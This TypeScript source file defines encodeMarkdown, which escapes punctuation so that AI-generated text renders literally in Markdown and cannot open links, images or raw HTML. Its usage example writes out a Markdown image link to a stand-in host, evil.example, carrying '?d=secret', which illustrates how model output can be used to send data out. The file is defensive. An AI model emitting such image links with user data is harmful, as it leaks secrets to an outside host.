import { substituteCodeUnits, substitutionTable } from '../internal/substituteCodeUnits.js';

/** Every ASCII punctuation character (CommonMark lets each be backslash-escaped); `&`, `<`, `>` as entities. */
const MARKDOWN = substitutionTable(
  128,
  Object.fromEntries(
    Array.from({ length: 128 }, (_, code) => String.fromCharCode(code))
      .filter((c) => /[!-/:-@[-`{-~]/.test(c))
      .map((c) => [c, c === '&' ? '&amp;' : c === '<' ? '&lt;' : c === '>' ? '&gt;' : `\\${c}`]),
  ),
);

/**
 * Encodes text so that a Markdown renderer shows it literally (R-ACT-OUT-3): every ASCII
 * punctuation character is backslash-escaped, and `&`, `<` and `>` become HTML entities. The model's
 * text then cannot open links, images, autolinks, raw HTML (`<script>`, `<img onerror>`), emphasis,
 * headings, lists, tables or code; escaping `:`, `/`, `.` and `@` also stops bare URLs, `www.` links
 * and e-mail addresses from being auto-linked (GFM, markdown-it `linkify`). A CommonMark renderer
 * displays exactly the original text. Runs in linear time.
 *
 * @remarks
 * Use it for model text placed inside a Markdown template. To keep the model's own formatting but
 * drop links and images to unknown hosts, use {@link sanitizeMarkdownLinks} instead.
 *
 * @param text - model-generated text
 * @returns the encoded Markdown
 * @example
 * ```ts
 * encodeMarkdown('![x](https://evil.example/p.png?d=secret)');
 * // '\\!\\[x\\]\\(https\\:\\/\\/evil\\.example\\/p\\.png\\?d\\=secret\\)'
 * ```
 * @category Encoding
 */
export function encodeMarkdown(text: string): string {
  return substituteCodeUnits(text, MARKDOWN);
}
